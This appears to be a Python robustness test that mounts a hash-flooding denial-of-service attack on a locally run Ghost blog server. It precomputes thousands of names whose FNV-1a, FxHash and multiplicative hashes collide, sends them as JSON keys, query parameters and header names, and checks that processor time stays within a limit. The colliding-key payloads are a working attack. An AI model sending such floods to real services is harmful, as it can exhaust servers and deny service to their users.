"""Names whose common hashes collide: filling a hash table with them takes quadratic time.

A name is a chain of blocks. Each block is one of two texts that change the state of a hash to the same next state, so 14 blocks
yield 16,384 colliding names. Only the low 32 bits are equal, which are the bits that hash tables use.
"""

import http.client
import itertools
import json
import random
import urllib.parse
from collections import Counter
from collections.abc import Callable

from attacking import Outcome, Target

LOW = (1 << 32) - 1
# The maximum factor between the work for colliding names and for other names.
WORK_RATIO_MAX = 3.0


def times_31(state: int, text: str) -> int:
    for byte in text.encode():
        state = (state * 31 + byte) & LOW
    return state


def times_33(state: int, text: str) -> int:
    for byte in text.encode():
        state = (state * 33 + byte) & LOW
    return state


def fnv_1a(state: int, text: str) -> int:
    """Returns the next state of FNV-1a with 64 bits, whose low bits depend only on low bits."""
    for byte in text.encode():
        state = ((state ^ byte) * 0x100000001B3) & LOW
    return state


def fx(state: int, text: str) -> int:
    """Returns the next state of FxHash, as in rustc, over words of eight bytes."""
    data = text.encode()
    for place in range(0, len(data), 8):
        word = int.from_bytes(data[place : place + 8], "little")
        state = (((state << 5 | state >> 59) & (1 << 64) - 1) ^ word) * 0x517CC1B727220A95 & (1 << 64) - 1
    return state


# Pairs of colliding texts: starting from the state after the preceding pairs, both texts of a pair result in the same state.
PAIRS_OF_FNV_1A = (
    "1qPh mobX d5aE 0C75 2qIF fcGv MacY 5D8y 7tfW cBTg ZuFb nOpr 9O8I AZoi "
    "6LFv b6tf bOAf VuWv 2hcv FjQF 5ieA yw7Q 1FWg YYNG 2JnJ Za7j tdBh 8jLX"
)
PAIRS_OF_FX = (
    "o7hRfp9mNCCElZfo jXqOfliVwFCG4i7f Nros2bxDZk00bRZE yuxXDcyb<blE:tAn nhplFKWVL8QJCJus KIP5TU3dt<B9C?3g "
    "rTKI3iUY68LoGQJR 0H47JxEBaMX.5|}j kAkuaaKsM04gq4AU c2b9DjB3Egc<HJf5 KSTDnwLH1YOVy2is Dm48buJSL_6/Lyvc "
    "2LkP1Zc7rIB7EF3e JSc5KktJk@po4rKp 8GJbBinG6L1kfezC otYOIRgtY_.3HTGl ihKB4XxAbXd1CGjR 4Ly6r1AIC;KnNU4h "
    "YJeyhiKWG2IZAMz8 VrepPSNX/QOUbC3O iouK9TLrl2MBLjXR DVwTC5jjPCr6d)NK LJFdfISURCxonWTa YwI3Gl47{0Ym7fDK "
    "81ZMyiyjUud2BKNm U48R7CJMj9ZL5PU7 wuxlGj83oFJw6mau eApUVjYu0Mp[DGWO"
)
FNV_1A_BEGIN = 0xCBF29CE484222325 & LOW
# Each hash, its initial state, and its pairs.
CHAINS = {
    "times 31": (times_31, 0, "Aa BB " * 14),
    "times 33": (times_33, 5381, "Ez FY " * 14),
    "FNV-1a": (fnv_1a, FNV_1A_BEGIN, PAIRS_OF_FNV_1A),
    "Fx": (fx, 0, PAIRS_OF_FX),
}


def colliding() -> dict[str, list[str]]:
    """Returns colliding names for each hash."""
    found = {}
    for name, (step, begin, texts) in CHAINS.items():
        words = texts.split()
        names = ["".join(blocks) for blocks in itertools.product(*zip(words[::2], words[1::2]))]
        if len({step(begin, text) & LOW for text in names[:: len(names) // 64]}) != 1:
            raise AssertionError(f"the names for {name} do not collide")
        found[name] = names
    return found


def plain(names: list[str]) -> list[str]:
    """Returns the same number of unrelated names of the same lengths."""
    chance = random.Random(9)
    return [chance.randbytes(len(name) // 2).hex() for name in names]


def work_of(target: Target, bodies: Callable[[list[str]], list[tuple[str, str, bytes, dict]]], names: list[str]) -> float:
    """Returns the processor time of the server in seconds for requests with these names."""
    requests = bodies(names)
    before = target.cpu_s()
    for method, path, body, fields in requests:
        connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=60, source_address=("127.0.0.2", 0))
        connection.request(method, path, body, fields)
        reply = connection.getresponse()
        reply.read()
        connection.close()
        if reply.status >= 500:
            raise AssertionError(f"{method} {path[:60]} with {len(names)} names gets {reply.status}")
    return target.cpu_s() - before


def json_keys(target: Target):
    fields = {"Authorization": f"Ghost {target.token}", "Content-Type": "application/json"}

    def requests(names: list[str]):
        record = {"title": "Many keys"} | dict.fromkeys(names, 1)
        # The request is refused for its second record, so that nothing is written.
        body = json.dumps({"posts": [record, {}]}).encode()
        return [("POST", "/ghost/api/admin/posts/", body, fields)] * 2

    return requests


def parameters(target: Target):
    def requests(names: list[str]):
        # As many as fit into a URL.
        few = names[: 7_000 // (len(names[0]) + 3)]
        query = urllib.parse.urlencode(dict.fromkeys(few, 1))[:7_500]
        return [("GET", f"/ghost/api/content/posts/?key={target.key}&limit=1&{query}", b"", {})] * 40

    return requests


def field_names(target: Target):
    def requests(names: list[str]):
        fields = {name.lower(): "x" for name in names[:3000:30] if name.isalnum()}
        return [("GET", f"/ghost/api/content/posts/?key={target.key}&limit=1", b"", dict(itertools.islice(fields.items(), 90)))] * 40

    return requests


def hash_flooding(target: Target, _seconds: float) -> Outcome:
    """Colliding keys of JSON and names of parameters and header fields, for each hash; compares the work with other names."""
    outcome: Outcome = Counter()
    for hash_name, names in colliding().items():
        for what, requests in [("keys", json_keys), ("parameters", parameters), ("fields", field_names)]:
            usual = work_of(target, requests(target), plain(names))
            flooded = work_of(target, requests(target), names)
            ratio = flooded / max(usual, 0.1)
            outcome["requests"] += len(requests(target)(names[:100]))
            outcome["most work in % of the usual"] = max(outcome["most work in % of the usual"], round(ratio * 100))
            if ratio > WORK_RATIO_MAX:
                raise AssertionError(f"{what} that collide for {hash_name} take {flooded:.2f} s of processor time, others {usual:.2f} s")
    return outcome


ATTACKS = {"names with colliding hashes": hash_flooding}
